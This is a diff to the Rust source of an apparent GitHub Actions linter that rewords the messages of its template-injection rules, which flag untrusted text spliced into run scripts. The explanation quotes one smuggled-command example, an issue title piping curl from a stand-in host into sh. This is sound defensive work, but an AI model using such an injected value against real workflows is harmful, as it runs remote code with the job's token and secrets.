@@ -1,4 +1,4 @@
-//! Outside text that is spliced into a script.
+//! Untrusted text that is spliced into a script.
 
 use anyhow::Result;
 use serde::Deserialize;
@@ -12,12 +12,12 @@ pub(crate) const RULE: Rule = Rule {
     name: "template-injection",
     group: Group::Workflow,
     severity: Severity::High,
-    summary: "Text that outsiders write is spliced into a script by an expression.",
+    summary: "Untrusted text is spliced into a script by an expression.",
     why: "GitHub replaces `${{ … }}` before the shell sees the script. An issue titled `\"; curl evil.example | sh #` \
-          is then not a title but a command, run with the job's token and secrets. Anybody can write an issue, name \
-          a branch or word a commit.\n\nParameters: `safe`, look-ups that may be spliced (a last `*` takes what \
-          follows).",
-    example: "```yaml\n- run: echo \"${{ github.event.issue.title }}\"\n```\n\nHand it over as data:\n\n```yaml\n- run: echo \
+          is then not a title but a command, run with the job's token and secrets. Anyone can open an issue, name \
+          a branch or write a commit message.\n\nParameters: `safe`, look-ups that may be spliced (a final `*` matches any \
+          suffix).",
+    example: "```yaml\n- run: echo \"${{ github.event.issue.title }}\"\n```\n\nPass it as data:\n\n```yaml\n- run: echo \
               \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.issue.title }}\n```",
     remedy: "set it as an `env` of the step, and use the variable, quoted, in the script",
 };
@@ -28,14 +28,14 @@ pub(crate) const SPLICED: Rule = Rule {
     severity: Severity::Medium,
     summary: "An input, output or variable is spliced into a script by an expression.",
     why: "GitHub replaces `${{ … }}` before the shell sees the script, so a quote or a `$(…)` in the value becomes part \
-          of the command. Results of steps, inputs and variables often carry text on that an outsider wrote; whether \
-          they do here is not visible in this file.\n\nParameters: `safe` of `template-injection` holds here too.",
+          of the command. Results of steps, inputs and variables often contain untrusted text; whether they do here \
+          cannot be seen in this file.\n\nParameters: `safe` of `template-injection` applies here too.",
     example: "```yaml\n- run: ./deploy.sh ${{ inputs.environment }}\n```\n\n```yaml\n- run: ./deploy.sh \"$ENVIRONMENT\"\n  \
               env:\n    ENVIRONMENT: ${{ inputs.environment }}\n```",
     remedy: "set it as an `env` of the step, and use the variable, quoted, in the script",
 };
 
-/// What only GitHub or the workflow's author can have written.
+/// Look-ups that only GitHub or the workflow's author can set.
 const SAFE: [&str; 34] = [
     "github.action",
     "github.action_path",
@@ -73,7 +73,7 @@ const SAFE: [&str; 34] = [
     "github.step_summary",
 ];
 
-/// Fields of an event that are numbers, hashes or words of GitHub's own, whatever they belong to.
+/// Fields of an event that are numbers, hashes or fixed words of GitHub, in any object.
 const SAFE_FIELDS: [&str; 9] =
     ["id", "number", "node_id", "sha", "merged", "draft", "action", "forced", "created_at"];
 
@@ -83,12 +83,12 @@ struct Settings {
     safe: Vec<String>,
 }
 
-/// Text that outsiders write.
+/// Untrusted text.
 pub(super) fn check(view: &View<'_>, _: &Context<'_>, parameters: &Parameters) -> Result<Vec<Offence>> {
     spliced(view, parameters, &RULE, true)
 }
 
-/// Text that may be an outsider's.
+/// Text that may be untrusted.
 pub(super) fn check_spliced(
     view: &View<'_>,
     _: &Context<'_>,
@@ -115,7 +115,7 @@ fn spliced(view: &View<'_>, parameters: &Parameters, rule: &Rule, is_certain: bo
     Ok(offences)
 }
 
-/// Who decides what a look-up says.
+/// Who controls the value of a look-up.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
 enum Writer {
     Unknown,
@@ -132,17 +132,17 @@ impl Writer {
     fn says(self) -> &'static str {
         match self {
             Self::Unknown => "it can carry outside text",
-            Self::Caller => "whoever calls it writes it",
-            Self::Starter => "whoever starts the workflow writes it",
-            Self::Outsider => "anybody may write it",
+            Self::Caller => "the caller controls it",
+            Self::Starter => "the person who starts the workflow controls it",
+            Self::Outsider => "anyone can control it",
         }
     }
 }
 
-/// Variables of variables of …: deeper than GitHub's three levels.
+/// How far variables that refer to variables are followed: deeper than GitHub's three levels.
 const MOST_LEVELS: usize = 4;
 
-/// Who decides what it says; nothing for what may be spliced.
+/// Who controls its value; `None` if it may be spliced.
 fn who_writes(
     view: &View<'_>,
     step: &Step<'_>,
@@ -157,7 +157,7 @@ fn who_writes(
     }
     let fields: Vec<&str> = path.iter().map(String::as_str).collect();
     match fields.as_slice() {
-        // Secrets have a rule of their own; results are words of GitHub's.
+        // Secrets have a separate rule; results are fixed words of GitHub.
         ["secrets", ..]
         | ["github", "token"]
         | ["needs", _, "result"]
@@ -165,7 +165,7 @@ fn who_writes(
         ["env", name] if depth < MOST_LEVELS => of_variable(view, step, name, settings, depth),
         ["github", "event", "inputs", ..] => Some(Writer::Starter),
         ["github", "event", .., last] if SAFE_FIELDS.contains(last) => None,
-        // A branch that is pushed belongs to this repository: its writers name it.
+        // A pushed branch belongs to this repository: people with write access name it.
         ["github", "ref" | "ref_name"] if !view.is_triggered_by_pull_request() => Some(Writer::Unknown),
         ["github", "event" | "head_ref" | "ref" | "ref_name", ..] => Some(Writer::Outsider),
         ["inputs", ..] => Some(Writer::Caller),
@@ -173,7 +173,7 @@ fn who_writes(
     }
 }
 
-/// Who decides what a variable of the nearest level that sets it says. One that a script may set anew through
+/// Who controls a variable, by the nearest level that sets it. One that a script may overwrite through
 /// `GITHUB_ENV` is unknown.
 fn of_variable(
     view: &View<'_>,
